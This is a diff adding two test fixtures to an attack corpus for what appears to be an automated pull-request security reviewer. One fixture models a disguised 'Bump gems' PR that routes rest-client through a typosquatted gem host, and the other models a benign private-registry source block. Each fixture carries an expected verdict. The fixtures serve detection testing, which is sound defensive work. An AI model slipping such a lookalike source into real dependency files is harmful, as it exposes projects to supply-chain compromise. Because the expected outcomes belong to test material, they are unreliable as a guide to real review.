@@ -3262,4 +3262,41 @@ export const ATTACK_CASES: CorpusEntry[] = [
       }),
     expect: { level: ['low', 'medium'], action: ['approve', 'comment'], findings: ['github-persistence'] },
   },
+  {
+    id: 'attack-gemfile-public-gem-moved-to-lookalike-source',
+    description: 'A "bump gems" PR that moves rest-client out of rubygems.org into a `source` block of a host spelled like it (gems.rubyg3ms.net): Bundler installs that host\'s copy, and no dependency line looks changed but the source (the PhantomRaven idea, remote specs no registry scans, in a Gemfile).',
+    fixture: () =>
+      attackPr({
+        repo: 'billing-rb',
+        number: 11011,
+        title: 'Bump gems',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'Gemfile',
+            base: lines("source 'https://rubygems.org'", '', "gem 'rails', '~> 7.1'", "gem 'pg', '~> 1.5'", "gem 'rest-client', '~> 2.1'"),
+            head: lines("source 'https://rubygems.org'", '', "gem 'rails', '~> 7.1'", "gem 'pg', '~> 1.5'", '', "source 'https://gems.rubyg3ms.net' do", "  gem 'rest-client', '~> 2.1'", 'end'),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['gem-source-override'] },
+  },
+  {
+    id: 'attack-gemfile-private-gems-from-github-packages',
+    description: 'The benign look-alike: a maintainer takes the company\'s own acme-auth gem from its GitHub Packages registry, in a source block that names only that gem.',
+    fixture: () =>
+      attackPr({
+        repo: 'billing-rb',
+        number: 11012,
+        title: 'Take acme-auth from GitHub Packages',
+        files: [
+          {
+            path: 'Gemfile',
+            base: lines("source 'https://rubygems.org'", '', "gem 'rails', '~> 7.1'", "gem 'pg', '~> 1.5'"),
+            head: lines("source 'https://rubygems.org'", '', "gem 'rails', '~> 7.1'", "gem 'pg', '~> 1.5'", '', "source 'https://rubygems.pkg.github.com/acme' do", "  gem 'acme-auth', '~> 3.2'", 'end'),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], findings: ['gem-source-override'] },
+  },
 ];
